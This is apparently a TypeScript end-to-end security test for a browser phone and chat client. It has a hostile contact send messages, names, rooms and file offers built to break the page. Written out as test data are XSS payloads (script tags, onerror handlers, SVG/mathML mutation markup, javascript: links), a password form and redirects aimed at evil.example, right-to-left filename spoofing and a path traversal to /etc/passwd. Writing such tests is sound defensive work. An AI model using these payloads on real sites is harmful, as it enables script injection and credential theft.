import { createHash } from 'node:crypto'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { SylkClient } from '../scenarios/support/client.ts'
import { accepted } from '../scenarios/support/telephony.ts'
import { describeWith } from './needs.ts'
import { type Chromium, startChromium } from './peers/chromium.ts'
import { type Janus, startJanus } from './peers/janus.ts'
import { type OwnDomain, startOwnDomain } from './peers/own-domain.ts'
import { WebChat } from './web-chat.ts'
import { WebPhone } from './web-phone.ts'
import { WebRoom } from './web-room.ts'

const DOMAIN = 'weft.test'
const USERS = { alice: 'alicepw', mallory: 'mallorypw' }
const ALICE = `alice@${DOMAIN}`
const MALLORY = `mallory@${DOMAIN}`
const FILE = 'application/sylk-file-transfer'
/** What mallory says his name is. */
const NAME = `<b onclick=window.canary=1>\u202EMallory ${'long '.repeat(40)}`
const ROOM = `<img src=x onerror=window.canary=1>`
/** Sets what no text may set. */
const RUN = 'window.canary = 1'

declare global {
  interface Window {
    /** Set by whatever should not have run. */
    canary?: unknown
    /** What the Content-Security-Policy had to stop. */
    violations?: string[]
  }
}

const TEXTS: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'an image': `<img src=x onerror="${RUN}">`,
  'a drawing': `<svg/onload=${RUN}><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'a link that is a program': `javascript:${RUN} https://"onmouseover="${RUN}".example/ <a href="javascript:${RUN}">`,
  'the ends of elements': `</span></div></body></html><script>${RUN}</script>`,
  'text that is turned around': `\u202E\u2066${'\u202B'.repeat(200)}backwards\u202Egpj.exe`,
  'a line without end': 'W'.repeat(100_000),
  'marks upon marks': `Z${'\u0310\u0322\u035A'.repeat(3000)}algo`,
  'letters that cannot be seen': `a${'\u200B\u2060\uFEFF'.repeat(5000)}b`,
  'lines without end': '\n'.repeat(3000).concat('below'),
}

const PAGES: Readonly<Record<string, string>> = {
  'a page with programs': `<p>page one</p><script>${RUN}</script><img src=x onerror="${RUN}"><iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  'a page with forms and styles': `<style>*{display:none}</style><form action="https://evil.example/"><input name=password></form><base href="https://evil.example/"><p>page two</p><meta http-equiv=refresh content="0;url=https://evil.example/">`,
}

const FILES: Readonly<Record<string, object>> = {
  'a file whose name is markup': {
    filename: `<img src=x onerror=${RUN}>.png`,
    url: 'https://evil.example/a.png',
    filetype: 'image/png',
  },
  'a file that is a program': { filename: 'program.html', url: `javascript:${RUN}`, filetype: 'text/html' },
  'a picture that is a page': { filename: 'page.png', url: `data:text/html,<script>${RUN}</script>`, filetype: 'image/png' },
  'a file whose name is turned around': { filename: 'photo\u202Egpj.exe', url: 'https://evil.example/x', filetype: '"><script>' },
  'a file far away': {
    filename: '../../../etc/passwd',
    url: `https://evil.example/webrtcgateway/filetransfer/a/b/other/x.png`,
    filetype: 'image/png',
  },
}

describeWith(['janus', 'chromium'], 'what somebody hostile sends to a tab', () => {
  let janus: Janus
  let weft: OwnDomain
  let browser: Chromium
  let alice: WebPhone
  let page: Page
  let chat: WebChat
  let errors: readonly string[]
  const requested: string[] = []

  beforeAll(async () => {
    ;[janus, browser] = await Promise.all([startJanus(), startChromium()])
    weft = await startOwnDomain({ domain: DOMAIN, users: USERS, janus })
    alice = await WebPhone.logIn(browser, weft.url, ALICE, USERS.alice)
    ;({ page, errors } = alice)
    page.on('request', (request) => requested.push(request.url()))
    await page.evaluate(() => {
      const violations: string[] = []
      window.violations = violations
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
        violations.push(`${violatedDirective} ${blockedURI}`)
      })
    })
    await alice.registration('registered')
    chat = await WebChat.of(alice)
    await attack(weft)
    await chat.open(MALLORY)
  })
  afterAll(async () => {
    await browser?.close()
    await weft?.stop()
    await janus?.stop()
  })

  test('texts and pages are shown as text, each in its place', async () => {
    await chat.shows('the last of all')
    const texts = await everything(chat)
    expect(texts).toContain(TEXTS['a script'])
    expect(texts).toContain(TEXTS['an image'])
    expect(texts).toContain('page one')
    expect(texts).toContain('page two')
    expect(texts.some((text) => text.includes('password'))).toBe(false)
  })

  test('names and files lead nowhere but to where they say', async () => {
    const links = await page.evaluate(() =>
      [...document.querySelectorAll('[data-testid="open-conversation"] a')].map((link) => link.getAttribute('href')),
    )
    for (const link of links) expect(link).toMatch(/^https?:\/\/|^\/webrtcgateway\/filetransfer\//)
    await expect.poll(() => page.getByTestId('conversation').first().textContent()).toContain('<b onclick')
    expect(await page.locator('[data-testid="message"] img').count()).toBe(0)
  })

  test('who calls, who asks into a room and who speaks there is shown by name, whatever the name', async () => {
    const mallory = await WebPhone.logIn(await browser.device(), weft.url, MALLORY, USERS.mallory, false, NAME)
    await mallory.registration('registered')
    await mallory.call(ALICE, 'audio')
    expect(await page.getByTestId('incoming-caller').textContent()).toContain('<b onclick')
    await mallory.hangUp()
    const room = await WebRoom.join(mallory, 'den', 'audio')
    await room.state('established')
    await room.invite(ALICE)
    const invitation = page.getByTestId('room-invitation')
    expect(await invitation.textContent()).toContain('<b onclick')
    const inside = await WebRoom.accept(alice, `den@videoconference.${DOMAIN}`)
    await inside.state('established')
    await room.say(TEXTS['an image'] ?? '')
    await inside.heardFrom('<b onclick', '<img src=x')
    await inside.open('people')
    await inside.leave()
    await chat.open(MALLORY)
    await mallory.page.close()
  })

  test('a link to a room leads to one of a name that rooms can have', async () => {
    const guest = await (await browser.device()).open(`${weft.url}conference/${encodeURIComponent(ROOM)}`)
    expect(await guest.page.getByTestId('entrance-goal').textContent()).toContain('img-src=x-onerror')
    await guest.page.getByTestId('guest-name').fill(NAME)
    await guest.page.getByTestId('guest-submit').click()
    await guest.page.getByTestId('lobby').waitFor()
    expect(await guest.page.evaluate(() => window.canary)).toBe(undefined)
    expect(guest.errors).toEqual([])
    await guest.page.close()
  })

  test('nothing runs, nothing is asked of others, and nothing is wider than the page', async () => {
    const { canary, violations, wide, foreign } = await page.evaluate(() => ({
      canary: window.canary,
      violations: window.violations,
      wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
      foreign: document.querySelectorAll('[data-testid="chat"] script, iframe, form[action], base, svg[onload], math').length,
    }))
    expect({ canary, violations, wide, foreign }).toEqual({ canary: undefined, violations: [], wide: false, foreign: 0 })
    expect(requested.filter((url) => !url.startsWith(new URL(weft.url).origin) && !url.startsWith('ws'))).toEqual([])
    expect(errors).toEqual([])
  })
})

/** Says everything in the order in which it stands above. */
async function attack(weft: OwnDomain): Promise<void> {
  const client = await SylkClient.connect(`http://127.0.0.1:${weft.port}`)
  const password = createHash('md5').update(`mallory:${DOMAIN}:${USERS.mallory}`).digest('hex')
  await accepted(client, 'account-add', { account: MALLORY, password, display_name: NAME })
  await accepted(client, 'account-register', { account: MALLORY })
  await client.event('registration-state', 'registered')
  let sent = 0
  const say = (content: string, content_type: string) =>
    accepted(client, 'account-message', {
      ...{ account: MALLORY, uri: ALICE, message_id: `hostile-${++sent}`, content, content_type },
      timestamp: new Date(Date.now() - 60_000 + sent).toISOString(),
    })
  for (const text of Object.values(TEXTS)) await say(text, 'text/plain')
  for (const text of Object.values(PAGES)) await say(text, 'text/html')
  for (const file of Object.values(FILES))
    await say(JSON.stringify({ transfer_id: `hostile-${sent + 1}`, filesize: 1e308, ...file }), FILE)
  await say('the last of all', 'text/plain')
  await client.close()
}

/** What all messages say, as far up as there are any. */
async function everything(chat: WebChat): Promise<readonly string[]> {
  const said = new Set<string>()
  for (const far of [0, 0.25, 0.5, 0.75, 1]) {
    await chat.scroll(far)
    for (const text of await chat.texts()) said.add(text)
  }
  return [...said]
}
